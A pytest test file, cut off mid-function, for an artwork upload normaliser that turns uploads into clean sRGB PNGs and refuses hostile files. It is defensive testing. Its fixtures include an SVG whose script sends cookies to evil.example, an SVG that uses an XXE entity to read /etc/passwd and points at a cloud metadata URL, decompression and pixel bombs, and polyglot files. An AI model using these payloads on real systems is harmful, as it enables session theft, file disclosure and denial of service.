"""Artwork uploads become upright, metadata-free sRGB PNGs; hostile files are refused cheaply and by name."""

from __future__ import annotations

import hashlib
import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageFile, TiffImagePlugin

from core.artwork import (
    ArtworkRefused,
    NormalisedArtwork,
    RefusalCode,
    normalise_artwork,
    sniff_format,
)
from core.errors import PressroomError

MAX_PIXELS = 24_300_000  # 4500 x 5400, a large print
TWO_SECONDS = 2.0


# --- fixture builders: every file is made here, in code -----------------------------------------------------

def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def quadrants(size: tuple[int, int] = (64, 32)) -> Image.Image:
    """An asymmetric RGB image: a red top-left block on blue, so any flip or rotation is visible."""
    image = Image.new("RGB", size, (0, 0, 255))
    image.paste((255, 0, 0), (0, 0, size[0] // 4, size[1] // 2))
    return image


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_from_parts(*, width: int, height: int, bit_depth: int = 8, colour_type: int = 2,
                   raw_rows: bytes = b"", before_idat: tuple[bytes, ...] = ()) -> bytes:
    """A PNG assembled chunk by chunk, for headers and chunks Pillow's writer won't produce."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + b"".join(before_idat)
            + png_chunk(b"IDAT", zlib.compress(raw_rows)) + png_chunk(b"IEND", b""))


def png_chunk_types(data: bytes) -> list[bytes]:
    pos, kinds = 8, []
    while pos < len(data):
        length, kind = struct.unpack_from(">I4s", data, pos)
        kinds.append(kind)
        pos += 12 + length
    return kinds


def tiff_header_claiming(width: int, height: int) -> bytes:
    """A little-endian TIFF whose single IFD claims a size, with one tiny strip behind it."""
    entries = [  # tag, type (3 SHORT, 4 LONG), count, value
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
        (273, 4, 1, 8 + 2 + 12 * 8 + 4), (277, 3, 1, 1), (279, 4, 1, 16),
    ]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHI", tag, kind, count) + (struct.pack("<I", value) if kind == 4 else
                                                  struct.pack("<HH", value, 0))
        for tag, kind, count, value in entries
    ) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd + bytes(16)


def jpeg_with_size_claim(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header was edited to claim another size: a pixel bomb in 1 kB."""
    data = bytearray(encode(quadrants((16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def jpeg_with_orientation(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encode(quadrants(), "JPEG", exif=exif, quality=95)


# Minimal ICC profiles, built from the v2 spec so the tests can see a profile being honoured.
D50 = (0.9642, 1.0, 0.8249)
LINEAR_CURVE = b"curv" + bytes(4) + struct.pack(">I", 0)


def s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def xyz_tag(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + bytes(4) + s15(x) + s15(y) + s15(z)


def icc_profile(device_class: bytes, space: bytes, pcs: bytes, tags: dict[bytes, bytes]) -> bytes:
    table, blobs = struct.pack(">I", len(tags)), b""
    first_offset = 128 + 4 + 12 * len(tags)
    for signature, body in tags.items():
        body += bytes(-len(body) % 4)
        table += struct.pack(">4sII", signature, first_offset + len(blobs), len(body))
        blobs += body
    size = first_offset + len(blobs)
    header = (struct.pack(">I4sI4s4s4s", size, bytes(4), 0x02100000, device_class, space, pcs)
              + bytes(12) + b"acsp" + bytes(28) + b"".join(s15(v) for v in D50) + bytes(48))
    return header + table + blobs


def rgb_profile_with_red_and_blue_swapped() -> bytes:
    """Linear RGB whose red primary is sRGB's blue: pure red pixels mean pure blue."""
    return icc_profile(b"mntr", b"RGB ", b"XYZ ", {
        b"wtpt": xyz_tag(*D50),
        b"rXYZ": xyz_tag(0.1430804, 0.0606169, 0.7141733),
        b"gXYZ": xyz_tag(0.3850649, 0.7168786, 0.0971045),
        b"bXYZ": xyz_tag(0.4360747, 0.2225045, 0.0139322),
        b"rTRC": LINEAR_CURVE, b"gTRC": LINEAR_CURVE, b"bTRC": LINEAR_CURVE,
    })


def linear_grey_profile() -> bytes:
    """Grey with gamma 1.0: stored 128 is half the light, which sRGB writes as about 188."""
    return icc_profile(b"mntr", b"GRAY", b"XYZ ", {b"wtpt": xyz_tag(*D50), b"kTRC": LINEAR_CURVE})


def cmyk_profile_where_cyan_prints_red() -> bytes:
    """A printer profile (lut16, Lab PCS) in which cyan ink looks red, so honouring it is unmistakable."""
    def lab(lightness: float, a: float, b: float) -> bytes:
        return struct.pack(">HHH", round(lightness / 100 * 0xFF00), round((a + 128) * 256),
                           round((b + 128) * 256))

    clut = b"".join(
        lab(0, 0, 0) if k else lab(54.29, 80.81, 69.89) if c else lab(100, 0, 0)
        for c in (0, 1) for _m in (0, 1) for _y in (0, 1) for k in (0, 1)
    )
    identity = b"".join(s15(v) for v in (1, 0, 0, 0, 1, 0, 0, 0, 1))
    ramp = struct.pack(">HH", 0, 0xFFFF)
    lut = (b"mft2" + bytes(4) + struct.pack(">BBBB", 4, 3, 2, 0) + identity + struct.pack(">HH", 2, 2)
           + ramp * 4 + clut + ramp * 3)
    return icc_profile(b"prtr", b"CMYK", b"Lab ", {b"wtpt": xyz_tag(*D50), b"A2B0": lut})


def zlib_of_zeros(megabytes: int) -> bytes:
    """Compress a stream of zeros chunk by chunk, so the bomb is never held in memory while we build it."""
    compressor, block = zlib.compressobj(1), bytes(1024 * 1024)
    return b"".join([*(compressor.compress(block) for _ in range(megabytes)), compressor.flush()])


def decoded(result: NormalisedArtwork) -> Image.Image:
    image = Image.open(io.BytesIO(result.data), formats=["PNG"])
    image.load()
    return image


def refusal(data: bytes, *, max_pixels: int = MAX_PIXELS, max_bytes: int = 50 << 20) -> ArtworkRefused:
    with pytest.raises(ArtworkRefused) as caught:
        normalise_artwork(data, max_pixels=max_pixels, max_bytes=max_bytes)
    return caught.value


def close_to(actual: tuple[int, ...], expected: tuple[int, ...], tolerance: int = 40) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))


@pytest.fixture
def decode_calls(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Records every pixel decode Pillow starts, to prove a bomb was refused from its header alone."""
    calls: list[object] = []
    original = Image.Image.load  # every plugin's load, libtiff's included, goes through this one

    def spying_load(self: Image.Image) -> object:
        if isinstance(self, ImageFile.ImageFile):
            calls.append(self)
        return original(self)

    monkeypatch.setattr(Image.Image, "load", spying_load)
    return calls


# --- sniffing -----------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("head", "expected"), [
    (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF", "JPEG"),
    (b"II*\x00\x08\x00\x00\x00", "TIFF"),
    (b"MM\x00*\x00\x00\x00\x08", "TIFF"),
    (b"II+\x00\x08\x00\x00\x00", "TIFF"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'>", None),
    (b"%PDF-1.7", None),
    (b"GIF89a", None),
    (b"\x89PNG", None),
    (b"", None),
])
def test_format_is_sniffed_from_magic_bytes_only(head: bytes, expected: str | None) -> None:
    # when / then
    assert sniff_format(head) == expected


def test_refusal_is_a_pressroom_error_with_code_and_message() -> None:
    # given / when
    refused = refusal(b"")
    # then
    assert isinstance(refused, PressroomError)
    assert refused.code == "empty_file"
    assert refused.message == str(refused)


# --- accepted uploads ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "TIFF"])
def test_each_accepted_format_is_reencoded_as_a_png_whose_sha256_matches(fmt: str) -> None:
    # given
    upload = encode(quadrants(), fmt, **({"quality": 95} if fmt == "JPEG" else {}))
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert result.source_format == fmt
    assert (result.width, result.height, result.mode) == (64, 32, "RGB")
    assert result.data.startswith(b"\x89PNG\r\n\x1a\n")
    assert result.sha256 == hashlib.sha256(result.data).hexdigest()
    image = decoded(result)
    assert image.size == (64, 32)
    assert close_to(image.getpixel((2, 2)), (255, 0, 0))
    assert close_to(image.getpixel((60, 30)), (0, 0, 255))


def test_the_same_upload_always_gives_the_same_bytes() -> None:
    # given
    upload = encode(quadrants(), "PNG")
    # when
    first, second = (normalise_artwork(upload, max_pixels=MAX_PIXELS) for _ in range(2))
    # then
    assert first == second


def test_jpeg_exif_gps_and_comment_are_gone_after_normalisation() -> None:
    # given a phone photo with GPS, camera make and a comment
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x010E] = "our secret holiday"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 7.0, 0.0)})
    upload = encode(quadrants(), "JPEG", exif=exif, comment=b"taken at home", dpi=(300, 300))
    assert b"PhoneMaker" in upload and b"taken at home" in upload
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert set(png_chunk_types(result.data)) == {b"IHDR", b"IDAT", b"IEND"}
    assert b"PhoneMaker" not in result.data and b"taken at home" not in result.data
    assert dict(decoded(result).getexif()) == {}


def test_png_text_exif_and_colour_chunks_are_not_copied_to_the_output() -> None:
    # given
    upload = png_from_parts(width=2, height=1, raw_rows=b"\x00" + bytes(6), before_idat=(
        png_chunk(b"tEXt", b"Author\x00Jane Customer"),
        png_chunk(b"pHYs", struct.pack(">IIB", 11811, 11811, 1)),
        png_chunk(b"gAMA", struct.pack(">I", 45455)),
    ))
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert png_chunk_types(result.data) == [b"IHDR", b"IDAT", b"IEND"]


# Where stored pixel (0, 0) must end up once the image is upright, per the EXIF orientation definitions.
UPRIGHT_CORNER = {1: "top-left", 2: "top-right", 3: "bottom-right", 4: "bottom-left",
                  5: "top-left", 6: "top-right", 7: "bottom-right", 8: "bottom-left"}


@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_gives_the_upright_image(orientation: int) -> None:
    # given a 64 x 32 JPEG whose stored top-left block is red, tagged with an orientation
    upload = jpeg_with_orientation(orientation)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then the size is swapped for the 90-degree orientations and the red block sits in the upright corner
    width, height = (32, 64) if orientation >= 5 else (64, 32)
    assert (result.width, result.height) == (width, height)
    image = decoded(result)
    assert image.size == (width, height)
    vertical, horizontal = UPRIGHT_CORNER[orientation].split("-")
    corner = (2 if horizontal == "left" else width - 3, 2 if vertical == "top" else height - 3)
    opposite = (width - 1 - corner[0], height - 1 - corner[1])
    assert close_to(image.getpixel(corner), (255, 0, 0)), (orientation, image.getpixel(corner))
    assert close_to(image.getpixel(opposite), (0, 0, 255))


def test_tiff_orientation_tag_is_applied() -> None:
    # given
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    tags[0x0112] = 6
    upload = encode(quadrants(), "TIFF", tiffinfo=tags)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then stored top-left is now top-right
    assert (result.width, result.height) == (32, 64)
    assert decoded(result).getpixel((29, 2)) == (255, 0, 0)


def test_png_exif_orientation_is_applied() -> None:
    # given
    exif = Image.Exif()
    exif[0x0112] = 3
    upload = encode(quadrants(), "PNG", exif=exif)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert decoded(result).getpixel((61, 29)) == (255, 0, 0)


def test_damaged_exif_is_ignored_rather_than_refusing_the_photo() -> None:
    # given a JPEG whose APP1 says Exif but holds no TIFF structure
    upload = encode(quadrants(), "JPEG", exif=b"Exif\x00\x00Exif\x00\x00garbage")
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert (result.width, result.height) == (64, 32)


def test_cmyk_jpeg_without_a_profile_becomes_rgb() -> None:
    # given full cyan ink
    upload = encode(Image.new("CMYK", (16, 16), (255, 0, 0, 0)), "JPEG", quality=95)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert result.mode == "RGB"
    assert close_to(decoded(result).getpixel((8, 8)), (0, 255, 255))


def test_cmyk_jpeg_with_an_embedded_profile_is_converted_through_that_profile() -> None:
    # given full cyan ink, in a profile where cyan ink is red
    upload = encode(Image.new("CMYK", (16, 16), (255, 0, 0, 0)), "JPEG", quality=95,
                    icc_profile=cmyk_profile_where_cyan_prints_red())
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then the profile, not the naive formula, decided the colour
    assert result.mode == "RGB"
    assert close_to(decoded(result).getpixel((8, 8)), (255, 0, 0))


def test_cmyk_tiff_becomes_rgb() -> None:
    # given
    upload = encode(Image.new("CMYK", (8, 8), (0, 0, 0, 255)), "TIFF")
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert (result.mode, decoded(result).getpixel((0, 0))) == ("RGB", (0, 0, 0))


def test_rgb_png_with_an_embedded_profile_is_converted_to_srgb() -> None:
    # given pure red in a profile whose red primary is sRGB blue
    upload = encode(Image.new("RGB", (8, 8), (255, 0, 0)), "PNG",
                    icc_profile=rgb_profile_with_red_and_blue_swapped())
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert close_to(decoded(result).getpixel((0, 0)), (0, 0, 255), tolerance=3)
    assert b"iCCP" not in png_chunk_types(result.data)


def test_rgba_png_with_a_profile_keeps_its_alpha() -> None:
    # given
    image = Image.new("RGBA", (8, 8), (255, 0, 0, 255))
    image.putpixel((0, 0), (255, 0, 0, 0))
    upload = encode(image, "PNG", icc_profile=rgb_profile_with_red_and_blue_swapped())
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    out = decoded(result)
    assert result.mode == "RGBA"
    assert out.getpixel((0, 0))[3] == 0
    assert close_to(out.getpixel((4, 4)), (0, 0, 255, 255), tolerance=3)


def test_grey_png_with_a_grey_profile_is_converted_to_srgb() -> None:
    # given
    upload = encode(Image.new("L", (8, 8), 128), "PNG", icc_profile=linear_grey_profile())
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then half the light is about 188 in sRGB, not 128
    assert result.mode == "RGB"
    assert close_to(decoded(result).getpixel((0, 0)), (188, 188, 188), tolerance=3)


def test_profile_for_another_colour_space_is_ignored(caplog: pytest.LogCaptureFixture) -> None:
    # given an RGB PNG carrying a CMYK profile
    upload = encode(Image.new("RGB", (8, 8), (10, 200, 30)), "PNG",
                    icc_profile=cmyk_profile_where_cyan_prints_red())
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then the pixels are read as sRGB, and someone can see why
    assert decoded(result).getpixel((0, 0)) == (10, 200, 30)
    assert "ignoring the profile" in caplog.text


def test_unreadable_profile_is_ignored_with_a_warning(caplog: pytest.LogCaptureFixture) -> None:
    # given
    upload = encode(Image.new("RGB", (8, 8), (10, 200, 30)), "JPEG", icc_profile=b"not a profile at all" * 10)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert close_to(decoded(result).getpixel((0, 0)), (10, 200, 30), tolerance=8)
    assert "ICC profile unusable" in caplog.text


@pytest.mark.parametrize("fmt", ["PNG", "TIFF"])
def test_sixteen_bit_grey_is_scaled_to_eight_bits_not_clipped(fmt: str) -> None:
    # given a 16-bit grey ramp: black, mid grey, white
    upload = encode(Image.fromarray(np.array([[0, 32896, 65535]], dtype=np.uint16)), fmt)
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    image = decoded(result)
    assert result.mode == "RGB"
    assert [image.getpixel((x, 0)) for x in range(3)] == [(0, 0, 0), (128, 128, 128), (255, 255, 255)]


def test_sixteen_bit_rgb_png_becomes_eight_bit_rgb() -> None:
    # given a 48-bit PNG with one orange pixel
    upload = png_from_parts(width=1, height=1, bit_depth=16, colour_type=2,
                            raw_rows=b"\x00" + struct.pack(">HHH", 65535, 32896, 0))
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert (result.mode, decoded(result).getpixel((0, 0))) == ("RGB", (255, 128, 0))


def test_palette_png_without_transparency_becomes_rgb() -> None:
    # given
    image = quadrants().convert("P", palette=Image.Palette.ADAPTIVE, colors=4)
    # when
    result = normalise_artwork(encode(image, "PNG"), max_pixels=MAX_PIXELS)
    # then
    assert result.mode == "RGB"
    assert decoded(result).getpixel((2, 2)) == (255, 0, 0)


def test_palette_png_with_a_transparent_index_becomes_rgba() -> None:
    # given index 0 is transparent
    image = Image.new("P", (4, 4), 1)
    image.putpalette([0, 0, 0, 255, 0, 0])
    image.putpixel((0, 0), 0)
    # when
    result = normalise_artwork(encode(image, "PNG", transparency=0), max_pixels=MAX_PIXELS)
    # then
    out = decoded(result)
    assert result.mode == "RGBA"
    assert out.getpixel((0, 0))[3] == 0
    assert out.getpixel((3, 3)) == (255, 0, 0, 255)


def test_rgba_png_with_real_transparency_keeps_alpha() -> None:
    # given
    image = Image.new("RGBA", (8, 8), (0, 255, 0, 128))
    # when
    result = normalise_artwork(encode(image, "PNG"), max_pixels=MAX_PIXELS)
    # then
    assert result.mode == "RGBA"
    assert decoded(result).getpixel((0, 0)) == (0, 255, 0, 128)


def test_rgba_png_that_is_fully_opaque_is_stored_as_rgb() -> None:
    # given
    image = Image.new("RGBA", (8, 8), (0, 255, 0, 255))
    # when
    result = normalise_artwork(encode(image, "PNG"), max_pixels=MAX_PIXELS)
    # then
    assert result.mode == "RGB"


@pytest.mark.parametrize(("mode", "expected_mode"), [("L", "RGB"), ("LA", "RGBA"), ("1", "RGB")])
def test_grey_and_bilevel_images_become_rgb_or_rgba(mode: str, expected_mode: str) -> None:
    # given
    image = Image.new(mode, (4, 4), 0 if mode != "LA" else (0, 100))
    # when
    result = normalise_artwork(encode(image, "PNG" if mode != "1" else "TIFF"), max_pixels=MAX_PIXELS)
    # then
    assert result.mode == expected_mode


def test_grey_png_with_a_transparent_key_colour_becomes_rgba() -> None:
    # given grey 0 is transparent
    image = Image.new("L", (4, 4), 200)
    image.putpixel((0, 0), 0)
    # when
    result = normalise_artwork(encode(image, "PNG", transparency=0), max_pixels=MAX_PIXELS)
    # then
    out = decoded(result)
    assert (result.mode, out.getpixel((0, 0))[3], out.getpixel((1, 1))) == ("RGBA", 0, (200, 200, 200, 255))


def test_multi_page_tiff_uses_only_the_first_page() -> None:
    # given a 64 x 32 first page and a much larger second page
    upload = encode(quadrants(), "TIFF", save_all=True, append_images=[Image.new("RGB", (400, 400))])
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert (result.width, result.height) == (64, 32)


def test_mpo_jpeg_from_a_camera_is_accepted_as_its_primary_image() -> None:
    # given a multi-picture JPEG (what phones write for gain maps and depth)
    upload = encode(quadrants(), "MPO", save_all=True, append_images=[Image.new("RGB", (8, 8))])
    # when
    result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
    # then
    assert (result.source_format, result.width, result.height) == ("JPEG", 64, 32)


def test_jpeg_followed_by_zero_padding_is_accepted() -> None:
    # given
    upload = encode(quadrants(), "JPEG") + bytes(512)
    # when / then
    assert normalise_artwork(upload, max_pixels=MAX_PIXELS).width == 64


@pytest.mark.parametrize("trailer", [
    pytest.param(b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(range(256)) * 64,
                 id="motion-photo-video"),
    pytest.param(b"Image_UTC_Data1700000000000\x00\x00SEFH\x10\x00\x00\x00SEFT", id="samsung-trailer"),
])
def test_phone_trailer_after_a_jpeg_is_tolerated(trailer: bytes) -> None:
    # given a photo with the data phones append after the JPEG
    upload = encode(quadrants(), "JPEG") + trailer
    # when / then
    assert normalise_artwork(upload, max_pixels=MAX_PIXELS).width == 64


def test_end_marker_bytes_inside_a_jpeg_comment_do_not_end_the_image() -> None:
    # given a comment holding EOI bytes followed by markup, inside the image, before the real end
    upload = encode(quadrants(), "JPEG", comment=b"\xff\xd9<html>not the end</html>")
    # when / then
    assert normalise_artwork(upload, max_pixels=MAX_PIXELS).width == 64


def test_file_of_exactly_the_size_limit_is_accepted() -> None:
    # given
    upload = encode(quadrants(), "PNG")
    # when / then
    assert normalise_artwork(upload, max_pixels=MAX_PIXELS, max_bytes=len(upload)).width == 64


@pytest.fixture(scope="module")
def zero_bomb() -> bytes:
    return zlib_of_zeros(300)


@pytest.mark.parametrize("kind", [b"zTXt", b"iTXt"])
def test_png_text_chunk_bomb_is_ignored_without_inflating_it(zero_bomb: bytes, kind: bytes) -> None:
    # given a valid PNG with a compressed text chunk that inflates to 300 MB
    header = b"Comment\x00\x00" if kind == b"zTXt" else b"Comment\x00\x01\x00\x00\x00"
    upload = png_from_parts(width=2, height=2, raw_rows=bytes(14),
                            before_idat=(png_chunk(kind, header + zero_bomb),))
    # when
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = normalise_artwork(upload, max_pixels=MAX_PIXELS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # then the image is accepted, the chunk dropped, and nothing near 300 MB (or Pillow's 1 MB cap) was made
    assert time.perf_counter() - started < TWO_SECONDS
    assert peak < len(upload) * 4
    assert (result.width, png_chunk_types(result.data)) == (2, [b"IHDR", b"IDAT", b"IEND"])


def test_png_colour_profile_bomb_is_refused_cheaply(zero_bomb: bytes) -> None:
    # given an iCCP chunk that inflates to 300 MB
    upload = png_from_parts(width=2, height=2, raw_rows=bytes(14),
                            before_idat=(png_chunk(b"iCCP", b"icc\x00\x00" + zero_bomb),))
    started = time.perf_counter()
    # when
    refused = refusal(upload)
    # then Pillow's cap stops the inflation and the file is refused as damaged
    assert time.perf_counter() - started < TWO_SECONDS
    assert refused.code == RefusalCode.TRUNCATED


# --- refused uploads ----------------------------------------------------------------------------------------

def test_empty_file_is_refused_as_empty_file() -> None:
    assert refusal(b"").code == RefusalCode.EMPTY_FILE


def test_file_over_the_size_limit_is_refused_as_too_large() -> None:
    # given
    upload = encode(quadrants(), "PNG")
    # when
    refused = refusal(upload, max_bytes=len(upload) - 1)
    # then
    assert refused.code == RefusalCode.TOO_LARGE
    assert "limit" in refused.message


SVG_WITH_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script><rect width="100" height="100"/>
</svg>"""
SVG_WITH_EXTERNAL_REFERENCES = b"""<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
  <image xlink:href="http://169.254.169.254/latest/meta-data/" width="10" height="10"/><text>&secret;</text>
</svg>"""
DOS_EPS = (b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIIIH", 30, 40, 0, 0, 0, 0, 0xFFFF)
           + b"%!PS-Adobe-3.0 EPSF-3.0\n")


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return buffer.getvalue()


@pytest.mark.parametrize(("upload", "named_as"), [
    pytest.param(SVG_WITH_SCRIPT, "an SVG drawing", id="svg-with-script"),
    pytest.param(SVG_WITH_EXTERNAL_REFERENCES, "an SVG drawing", id="svg-with-external-references"),
    pytest.param(b"\xef\xbb\xbf  <svg/>", "an SVG drawing", id="svg-with-bom"),
    pytest.param("<svg/>".encode("utf-16"), "an SVG drawing", id="svg-in-utf16"),
    pytest.param(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n", "an EPS file", id="eps-text"),
    pytest.param(DOS_EPS, "an EPS file", id="eps-binary-header"),
    pytest.param(b"%!PS\n/Helvetica findfont\n", "a PostScript file", id="postscript"),
    pytest.param(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", "a PDF", id="pdf"),
    pytest.param(b"junk before the header\n%PDF-1.4\n", "a PDF", id="pdf-with-leading-junk"),
    pytest.param(encode(quadrants(), "GIF"), "a GIF image", id="gif"),
    pytest.param(encode(quadrants(), "WEBP"), "a WebP image", id="webp"),
    pytest.param(encode(quadrants(), "BMP"), "a BMP image", id="bmp"),
    pytest.param(b"<!DOCTYPE html><html><body><script>x()</script></body></html>", "a web page (HTML)",
                 id="html"),
    pytest.param(zip_archive(), "a ZIP archive", id="zip"),
    pytest.param(b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "a HEIC photo", id="heic"),
])
def test_non_print_formats_are_refused_as_unsupported_format_and_named(upload: bytes, named_as: str) -> None:
    # when
    refused = refusal(upload)
    # then
    assert refused.code == RefusalCode.UNSUPPORTED_FORMAT
    assert refused.message == f"The file is {named_as}; upload a PNG, JPEG or TIFF image."


def test_unrecognised_bytes_are_refused_as_unsupported_format() -> None:
    # when
    refused = refusal(b"just some words in a file called logo.png")
    # then
    assert refused.code == RefusalCode.UNSUPPORTED_FORMAT
    assert refused.message == "The file is not a PNG, JPEG or TIFF image; upload a PNG, JPEG or TIFF image."


def test_svg_named_png_is_refused_as_unsupported_format() -> None:
    # given an SVG drawing that a browser labelled image/png because of its file name; only bytes reach us
    upload = SVG_WITH_SCRIPT
    # when / then
    assert refusal(upload).code == RefusalCode.UNSUPPORTED_FORMAT


@pytest.mark.parametrize(("upload", "named_as"), [
    pytest.param(encode(quadrants(), "JPEG") + b"<html><script>alert(document.domain)</script></html>",
                 "web page or script code", id="jpeg+html"),
    pytest.param(encode(quadrants(), "JPEG") + zip_archive(), "a ZIP archive", id="jpeg+zip"),
    pytest.param(encode(quadrants(), "JPEG") + encode(quadrants(), "JPEG") + zip_archive(), "a ZIP archive",
                 id="jpeg+jpeg+zip"),
    pytest.param(encode(quadrants(), "JPEG") + bytes(16) + b"<svg onload=alert(1)>", "an SVG drawing",
                 id="jpeg+padding+svg"),
    pytest.param(encode(quadrants(), "PNG") + b"<script>alert(1)</script>", "web page or script code",
                 id="png+script"),
    pytest.param(encode(quadrants(), "PNG") + b"<svg xmlns='http://www.w3.org/2000/svg'/>", "an SVG drawing",
                 id="png+svg"),
    pytest.param(encode(quadrants(), "PNG") + zip_archive()[:-22], "a ZIP archive",
                 id="png+zip-no-directory"),
    pytest.param(encode(quadrants(), "PNG") + b"\x01\x02\x03", "unrecognised data", id="png+junk"),
    pytest.param(encode(quadrants(), "JPEG") + b"junk first " + zip_archive(), "a ZIP archive",
                 id="jpeg+junk+zip"),
    pytest.param(encode(quadrants(), "JPEG") + bytes(range(256)) * 8192 + b"<script>x()</script>",
                 "web page or script code", id="jpeg+2mb-filler+script-at-the-end"),
    pytest.param(encode(quadrants(), "JPEG") + b"%PDF-1.4\n", "a PDF", id="jpeg+pdf"),
    pytest.param(encode(quadrants(), "TIFF") + zip_archive(), "a ZIP archive", id="tiff+zip"),
])
def test_data_hidden_after_the_image_is_refused_as_polyglot(upload: bytes, named_as: str) -> None:
    # when
    refused = refusal(upload)
    # then
    assert refused.code == RefusalCode.POLYGLOT
    assert named_as in refused.message


def corrupt_png_idat() -> bytes:
    data = bytearray(encode(quadrants(), "PNG"))
    start = data.index(b"IDAT") + 4
    data[start : start + 8] = b"\xde\xad\xbe\xef" * 2
    return bytes(data)


@pytest.mark.filterwarnings("ignore::UserWarning:PIL.TiffImagePlugin")  # Pillow narrates the damage
@pytest.mark.parametrize("upload", [
    pytest.param(encode(quadrants(), "PNG")[:-40], id="png-cut-short"),
    pytest.param(encode(quadrants(), "PNG")[:30], id="png-header-only"),
    pytest.param(corrupt_png_idat(), id="png-corrupt-pixels"),
    pytest.param(encode(quadrants(), "JPEG")[:-200], id="jpeg-cut-short"),
    pytest.param(encode(quadrants(), "JPEG")[:3], id="jpeg-magic-only"),
    pytest.param(encode(quadrants(), "TIFF")[:-1000], id="tiff-cut-short"),
    pytest.param(encode(quadrants(), "TIFF", compression="tiff_lzw")[:-50], id="lzw-tiff-cut-short"),
    pytest.param(b"II*\x00\xff\xff\xff\x7f", id="tiff-directory-past-the-end"),
])
def test_truncated_or_corrupt_files_are_refused_as_truncated(upload: bytes) -> None:
    # when
    refused = refusal(upload)
    # then
    assert refused.code == RefusalCode.TRUNCATED
    assert "damaged or incomplete" in refused.message


PIXEL_BOMBS = {
    "png-30000x30000": lambda: png_from_parts(width=30_000, height=30_000, raw_rows=b"\x00" * 16),
    "png-just-over-the-product-limit": lambda: png_from_parts(width=4500, height=5401, raw_rows=b"\x00" * 16),
    "jpeg-60000x60000": lambda: jpeg_with_size_claim(60_000, 60_000),
    "tiff-100000x100000": lambda: tiff_header_claiming(100_000, 100_000),
    "tiff-just-over-the-product-limit": lambda: tiff_header_claiming(5401, 4500),
}


@pytest.mark.parametrize("build", PIXEL_BOMBS.values(), ids=PIXEL_BOMBS.keys())
def test_pixel_bomb_is_refused_from_its_header_without_decoding(
    build: Callable[[], bytes], decode_calls: list[object]
) -> None:
    # given a file whose header claims more pixels than the product allows
    upload = build()
    started = time.perf_counter()
    # when
    refused = refusal(upload)
    # then
    assert refused.code == RefusalCode.TOO_MANY_PIXELS
    assert decode_calls == []
    assert time.perf_counter() - started < TWO_SECONDS


def test_progressive_jpeg_with_thousands_of_scans_is_refused_before_decoding(
    decode_calls: list[object],
